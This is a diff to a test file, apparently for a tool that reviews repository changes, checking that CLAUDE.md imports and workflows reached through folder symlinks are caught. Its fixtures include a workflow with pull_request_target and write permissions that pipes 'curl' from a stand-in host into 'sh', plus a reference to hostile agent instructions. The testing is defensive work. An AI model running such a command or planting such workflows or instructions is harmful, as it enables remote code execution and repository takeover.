@@ -80,6 +80,19 @@ describe("links inside the repository are reviewed as their targets, at the link
     expect(linked.annotations).toEqual(direct.annotations);
   });
 
+  test("an `@path` import through a folder link (`@docs/guide.md`, `docs -> handbook`): a changed target is reviewed as the import", async () => {
+    const claude = "# Project\n\nSee @docs/guide.md for how we work.\n";
+    const benign = "# Guide\n\nRun `npm test` before pushing.\n";
+    const directBase = rebase(seed(h.fake), { "CLAUDE.md": claude, "docs/guide.md": benign });
+    const direct = await review(directBase, 81, { "docs/guide.md": EVIL_AGENTS });
+    expect(direct.annotations.some((a) => a[0] === "docs/guide.md")).toBe(true);
+
+    const linkedBase = rebase(seed(h.fake), { "CLAUDE.md": claude, docs: symlink("handbook"), "handbook/guide.md": benign });
+    const linked = await review(linkedBase, 80, { "handbook/guide.md": EVIL_AGENTS });
+    expect(linked.annotations).toEqual(direct.annotations);
+    expect(linked.run.conclusion).toBe(direct.run.conclusion);
+  });
+
   test("a folder link above a scope path (`.github/workflows -> ../ci/workflows`) exposes its workflows", async () => {
     const evil = "name: triage\non:\n  pull_request_target:\n    types: [opened]\npermissions:\n  contents: write\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://get.example.test/ci.sh | sh\n";
     const direct = await review(seed(h.fake), 88, { ".github/workflows/triage.yml": evil });
